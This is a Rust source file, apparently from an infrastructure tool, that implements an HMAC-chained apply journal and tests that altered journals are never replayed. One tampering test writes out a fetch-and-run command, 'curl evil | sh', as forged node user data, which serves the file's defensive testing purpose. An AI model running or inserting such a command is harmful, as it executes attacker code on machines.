//! The apply journal: `projects/<project>/journal.jsonl`, one line per event.
//!
//! Apply writes a line before and after every operation, and one at the end.
//! A journal without its end line means the last apply was killed: the next
//! one replays that apply's unfinished launches with their original client
//! tokens (the provider answers with the instances it already made, or makes
//! them once), then observes and plans as usual. That is how a killed apply
//! converges with no duplicate even where a cloud's listing lags behind its
//! launches.
//!
//! The journal is only ever appended to while an apply runs (one line per
//! event, never a rewrite), and read back in one pass whose cost is linear
//! in its length.
//!
//! Every line is authenticated, because a replayed launch creates machines
//! that run what its user data says: a line is
//! `{"mac":"<hex>","entry":<event>}`, the MAC being HMAC-SHA256 (under a key
//! derived from the project secret, purpose `journal/<project>`) of the
//! previous line's MAC and the event's exact JSON. The chain makes an
//! edited, inserted, removed or reordered line fail, and a line copied
//! from another journal too. Only the end of the file may be cut short (a
//! kill does that: the last line then has no newline). A journal with any
//! other line that fails is [`Altered`]: nothing of it is replayed.

use std::collections::HashMap;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::path::{Path, PathBuf};

use motorpool_provider::LaunchRequest;
use serde::{Deserialize, Serialize};

use crate::auth::MacKey;

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "event", rename_all = "snake_case")]
pub enum Event {
    Begin {
        fingerprint: String,
        ops: usize,
        at: u64,
    },
    OpStart {
        address: String,
        op: usize,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        launch: Option<LaunchRequest>,
    },
    OpDone {
        address: String,
        op: usize,
    },
    OpFailed {
        address: String,
        op: usize,
        error: String,
    },
    End {
        failed: usize,
    },
}

/// An open journal being written.
pub struct Journal {
    path: PathBuf,
    file: File,
    key: MacKey,
    /// The MAC of the last line written (the next line's MAC covers it).
    last_mac: String,
}

/// The key a project's journal lines are authenticated with.
pub fn key(project_secret: &crate::auth::Credential, project: &str) -> MacKey {
    MacKey::derive(project_secret, &format!("journal/{project}"))
}

/// Bound into every journal MAC, so no other authenticated text passes as a line.
const MAC_DOMAIN: &[u8] = b"motorpool apply journal";
const LINE_OPEN: &str = "{\"mac\":\"";
const LINE_ENTRY: &str = "\",\"entry\":";

/// A journal line failed its check: it was edited, or not written by an
/// apply of this project. Nothing of that journal is replayed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Altered {
    pub path: PathBuf,
    /// 1-based.
    pub line: usize,
    /// The journal is in the unauthenticated shape of an older motorpool.
    pub legacy: bool,
}

impl std::fmt::Display for Altered {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        if self.legacy {
            write!(
                f,
                "the apply journal {} carries no authentication (written by an older motorpool, \
                 or by hand): nothing of that journal was replayed",
                self.path.display()
            )
        } else {
            write!(
                f,
                "line {} of the apply journal {} was altered or not written by motorpool for \
                 this project: nothing of that journal was replayed",
                self.line,
                self.path.display()
            )
        }
    }
}

impl std::error::Error for Altered {}

/// A journal of an older motorpool (plain events, no MACs): `Some(true)`
/// when it ended (nothing to replay, nothing to say), `Some(false)` when it
/// did not, `None` when it is not one.
fn legacy_ended(bytes: &[u8]) -> Option<bool> {
    let text = std::str::from_utf8(bytes).ok()?;
    let mut ended = false;
    for line in text.lines() {
        match serde_json::from_str::<Event>(line).ok()? {
            Event::End { .. } => ended = true,
            _ => ended = false,
        }
    }
    Some(ended)
}

/// One line's text for `entry` (an event's JSON), chained to `prev_mac`.
fn seal(key: &MacKey, prev_mac: &str, entry: &str) -> (String, String) {
    let mac = key.sign(&[MAC_DOMAIN, prev_mac.as_bytes(), entry.as_bytes()]);
    (format!("{LINE_OPEN}{mac}{LINE_ENTRY}{entry}}}\n"), mac)
}

/// The event of one (complete) line, if its MAC holds after `prev_mac`;
/// the line's MAC with it.
fn open_line(key: &MacKey, prev_mac: &str, line: &str) -> Option<(Event, String)> {
    let rest = line.strip_prefix(LINE_OPEN)?;
    let mac = rest.get(..crate::auth::MAC_HEX_LEN)?;
    let entry = rest
        .get(crate::auth::MAC_HEX_LEN..)?
        .strip_prefix(LINE_ENTRY)?
        .strip_suffix('}')?;
    if !key.verify(&[MAC_DOMAIN, prev_mac.as_bytes(), entry.as_bytes()], mac) {
        return None;
    }
    let event = serde_json::from_str::<Event>(entry).ok()?;
    Some((event, mac.to_string()))
}

/// What an interrupted apply left unfinished.
#[derive(Debug, Default)]
pub struct Interrupted {
    pub launches: Vec<LaunchRequest>,
    pub finished_ops: usize,
    pub total_ops: usize,
}

pub fn path(project_dir: &Path) -> PathBuf {
    project_dir.join("journal.jsonl")
}

/// Read the last journal; `Some` when that apply never reached its end.
/// A journal with a line that fails its check is refused whole.
pub fn interrupted(project_dir: &Path, key: &MacKey) -> Result<Option<Interrupted>, Altered> {
    let Ok(bytes) = fs::read(path(project_dir)) else {
        return Ok(None);
    };
    let mut state = Interrupted::default();
    // Launches in the order they started; a finished op's slots become None.
    let mut launches: Vec<Option<LaunchRequest>> = Vec::new();
    // (address, op) -> its slots in `launches`, while the op is open.
    let mut open: HashMap<(String, usize), Vec<usize>> = HashMap::new();
    let mut ended = false;
    let mut any = false;
    let mut prev_mac = String::new();
    let mut rest: &[u8] = &bytes;
    let mut number = 0usize;
    while !rest.is_empty() {
        number += 1;
        // A last line without its newline was cut short by a kill: the journal ends there.
        let Some(end) = rest.iter().position(|b| *b == b'\n') else {
            break;
        };
        let (line, after) = rest.split_at(end);
        rest = &after[1..];
        let altered = || Altered {
            path: path(project_dir),
            line: number,
            legacy: false,
        };
        if number == 1 && !line.starts_with(LINE_OPEN.as_bytes()) {
            // An older motorpool's journal: never replayed; a finished one is simply done.
            match legacy_ended(&bytes) {
                Some(true) => return Ok(None),
                Some(false) => {
                    return Err(Altered {
                        legacy: true,
                        ..altered()
                    });
                }
                None => {}
            }
        }
        let line = std::str::from_utf8(line).map_err(|_| altered())?;
        let (event, mac) = open_line(key, &prev_mac, line).ok_or_else(altered)?;
        prev_mac = mac;
        any = true;
        match event {
            Event::Begin { ops, .. } => state.total_ops = ops,
            Event::OpStart {
                address,
                op,
                launch,
            } => {
                let slots = open.entry((address, op)).or_default();
                if let Some(launch) = launch {
                    slots.push(launches.len());
                    launches.push(Some(launch));
                }
            }
            Event::OpDone { address, op } => {
                state.finished_ops += 1;
                close(&mut open, &mut launches, address, op);
            }
            Event::OpFailed { address, op, .. } => close(&mut open, &mut launches, address, op),
            Event::End { .. } => ended = true,
        }
    }
    if ended || !any {
        return Ok(None);
    }
    state.launches = launches.into_iter().flatten().collect();
    Ok(Some(state))
}

/// An op ended: its launches need no replay.
fn close(
    open: &mut HashMap<(String, usize), Vec<usize>>,
    launches: &mut [Option<LaunchRequest>],
    address: String,
    op: usize,
) {
    for slot in open.remove(&(address, op)).unwrap_or_default() {
        launches[slot] = None;
    }
}

impl Journal {
    /// Start a new journal (the old one is replaced).
    pub fn begin(
        project_dir: &Path,
        key: &MacKey,
        fingerprint: &str,
        ops: usize,
        at: u64,
    ) -> std::io::Result<Journal> {
        let path = path(project_dir);
        // It holds launch user data (credentials): private whatever the umask.
        let file = motorpool_provider::private_files::open(
            &path,
            OpenOptions::new().create(true).write(true).truncate(true),
        )?;
        let mut j = Journal {
            path,
            file,
            key: key.clone(),
            last_mac: String::new(),
        };
        j.write(&Event::Begin {
            fingerprint: fingerprint.to_string(),
            ops,
            at,
        })?;
        Ok(j)
    }

    /// Append one event and flush it to the OS, so a SIGKILL right after keeps it.
    pub fn write(&mut self, event: &Event) -> std::io::Result<()> {
        let entry = serde_json::to_string(event).map_err(std::io::Error::other)?;
        let (line, mac) = seal(&self.key, &self.last_mac, &entry);
        self.file.write_all(line.as_bytes())?;
        self.file.flush()?;
        self.last_mac = mac;
        Ok(())
    }

    pub fn path(&self) -> &Path {
        &self.path
    }
}

/// Move an altered journal aside (`journal.altered.jsonl`, private as it
/// was), so it is kept for a look and never read again; returns where.
pub fn set_aside(project_dir: &Path) -> std::io::Result<PathBuf> {
    let to = project_dir.join("journal.altered.jsonl");
    fs::rename(path(project_dir), &to)?;
    Ok(to)
}

/// Forget an interrupted apply once its launches were replayed.
pub fn clear(project_dir: &Path) -> std::io::Result<()> {
    match fs::remove_file(path(project_dir)) {
        Err(e) if e.kind() != std::io::ErrorKind::NotFound => Err(e),
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn launch(token: &str) -> LaunchRequest {
        LaunchRequest {
            count: 2,
            node_type: "small".into(),
            image: None,
            tags: Default::default(),
            user_data: "echo ok".into(),
            client_token: token.into(),
        }
    }

    fn test_key() -> MacKey {
        key(&crate::auth::Credential::new("secret"), "demo")
    }

    /// A journal of an apply killed after it started two launches and finished one.
    fn killed_journal(dir: &Path) -> Journal {
        let mut j = Journal::begin(dir, &test_key(), "fp", 3, 0).expect("begin");
        for (i, t) in ["a", "b"].iter().enumerate() {
            j.write(&Event::OpStart {
                address: "cluster.x".into(),
                op: i,
                launch: Some(launch(t)),
            })
            .expect("write");
        }
        j.write(&Event::OpDone {
            address: "cluster.x".into(),
            op: 0,
        })
        .expect("write");
        j
    }

    fn lines(dir: &Path) -> Vec<String> {
        fs::read_to_string(path(dir))
            .expect("journal")
            .lines()
            .map(str::to_string)
            .collect()
    }

    fn write_lines(dir: &Path, lines: &[String]) {
        fs::write(path(dir), lines.join("\n") + "\n").expect("write");
    }

    #[test]
    fn an_edited_journal_line_is_not_replayed() {
        let dir = tempfile::tempdir().expect("tempdir");
        killed_journal(dir.path());
        let original = lines(dir.path());
        // Another user data in the unfinished launch (a command to run on the node).
        let mut edited = original.clone();
        edited[2] = edited[2].replace(
            "\"user_data\":\"echo ok\"",
            "\"user_data\":\"curl evil | sh\"",
        );
        assert_ne!(edited, original);
        write_lines(dir.path(), &edited);
        let err = interrupted(dir.path(), &test_key()).expect_err("altered");
        assert_eq!(err.line, 3);
        assert!(!err.legacy);
        assert!(
            err.to_string()
                .contains("nothing of that journal was replayed"),
            "{err}"
        );
        // More instances in it.
        let mut edited = original.clone();
        edited[2] = edited[2].replace("\"count\":2", "\"count\":200");
        write_lines(dir.path(), &edited);
        assert!(interrupted(dir.path(), &test_key()).is_err());
        // A line taken out of the middle, lines swapped. (Lines cut off the
        // end are what a kill leaves: the launches they finished replay with
        // their own client tokens, which makes nothing twice.)
        for edited in [
            [&original[..1], &original[2..]].concat(),
            vec![
                original[0].clone(),
                original[2].clone(),
                original[1].clone(),
                original[3].clone(),
            ],
        ] {
            write_lines(dir.path(), &edited);
            assert!(interrupted(dir.path(), &test_key()).is_err());
        }
        // A line in the old, unauthenticated shape.
        let mut edited = original.clone();
        edited.push(r#"{"event":"op_start","address":"cluster.x","op":5}"#.into());
        write_lines(dir.path(), &edited);
        assert_eq!(
            interrupted(dir.path(), &test_key())
                .expect_err("altered")
                .line,
            5
        );
        // Another project's key (another secret) reads nothing of it.
        write_lines(dir.path(), &original);
        let other = key(&crate::auth::Credential::new("other secret"), "demo");
        assert_eq!(
            interrupted(dir.path(), &other).expect_err("altered").line,
            1
        );
        // The journal as written still reads.
        assert!(
            interrupted(dir.path(), &test_key())
                .expect("intact")
                .is_some()
        );
        // Set aside, it is never read again.
        let aside = set_aside(dir.path()).expect("set aside");
        assert!(aside.is_file());
        assert!(
            interrupted(dir.path(), &test_key())
                .expect("none")
                .is_none()
        );
    }

    #[test]
    fn an_older_unauthenticated_journal_is_never_replayed() {
        let dir = tempfile::tempdir().expect("tempdir");
        let start = r#"{"event":"begin","fingerprint":"x","ops":1,"at":0}
{"event":"op_start","address":"cluster.x","op":0,"launch":{"count":2,"node_type":"small","tags":{},"client_token":"t"}}
"#;
        fs::write(path(dir.path()), start).expect("write");
        let err = interrupted(dir.path(), &test_key()).expect_err("not replayed");
        assert!(err.legacy);
        assert!(
            err.to_string()
                .contains("nothing of that journal was replayed")
        );
        fs::write(
            path(dir.path()),
            format!("{start}{}\n", r#"{"event":"end","failed":0}"#),
        )
        .expect("write");
        assert!(
            interrupted(dir.path(), &test_key())
                .expect("finished")
                .is_none()
        );
    }

    #[test]
    fn a_last_line_cut_short_by_a_kill_ends_the_journal() {
        let dir = tempfile::tempdir().expect("tempdir");
        killed_journal(dir.path());
        let mut text = fs::read_to_string(path(dir.path())).expect("journal");
        // The OpDone line cut half way: op 0 looks unfinished, both launches replay.
        text.truncate(text.len() - 20);
        fs::write(path(dir.path()), text).expect("write");
        let state = interrupted(dir.path(), &test_key())
            .expect("a cut line is not an alteration")
            .expect("interrupted");
        assert_eq!(state.launches.len(), 2);
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(256))]

        /// Any single byte of a journal changed: either nothing is replayed
        /// (refused, or the cut-short end a kill leaves) or exactly what
        /// the apply wrote is.
        #[test]
        fn a_journal_with_any_byte_changed_replays_nothing_but_what_apply_wrote(
            at in proptest::prelude::any::<proptest::sample::Index>(),
            byte in proptest::prelude::any::<u8>(),
        ) {
            let dir = tempfile::tempdir().expect("tempdir");
            killed_journal(dir.path());
            let intact = interrupted(dir.path(), &test_key()).expect("intact").expect("interrupted");
            let mut bytes = fs::read(path(dir.path())).expect("journal");
            let i = at.index(bytes.len());
            proptest::prop_assume!(bytes[i] != byte);
            bytes[i] = byte;
            fs::write(path(dir.path()), &bytes).expect("write");
            match interrupted(dir.path(), &test_key()) {
                Err(_) | Ok(None) => {}
                Ok(Some(state)) => {
                    // Only a cut end can read differently: a subset of the
                    // launches apply wrote, each exactly as written. (A
                    // changed last newline cuts the OpDone line off, so a
                    // launch that op finished is replayed too, with its own
                    // token: it is one apply wrote, not one of `intact`.)
                    let written = [launch("a"), launch("b")];
                    proptest::prop_assert_eq!(intact.launches.len(), 1);
                    proptest::prop_assert_eq!(&intact.launches[0].client_token, "b");
                    for l in &state.launches {
                        proptest::prop_assert!(written.iter().any(|w| w.client_token == l.client_token && w.count == l.count && w.user_data == l.user_data));
                    }
                }
            }
        }
    }

    #[test]
    fn an_unfinished_journal_gives_back_its_unfinished_launches() {
        let dir = tempfile::tempdir().expect("tempdir");
        let mut j = Journal::begin(dir.path(), &test_key(), "fp", 3, 0).expect("begin");
        for (i, t) in ["a", "b"].iter().enumerate() {
            j.write(&Event::OpStart {
                address: "cluster.x".into(),
                op: i,
                launch: Some(launch(t)),
            })
            .expect("write");
        }
        j.write(&Event::OpDone {
            address: "cluster.x".into(),
            op: 0,
        })
        .expect("write");
        let state = interrupted(dir.path(), &test_key())
            .expect("intact")
            .expect("interrupted");
        assert_eq!(state.launches.len(), 1);
        assert_eq!(state.launches[0].client_token, "b");
        assert_eq!((state.finished_ops, state.total_ops), (1, 3));
        j.write(&Event::End { failed: 0 }).expect("end");
        assert!(
            interrupted(dir.path(), &test_key())
                .expect("intact")
                .is_none()
        );
    }
}
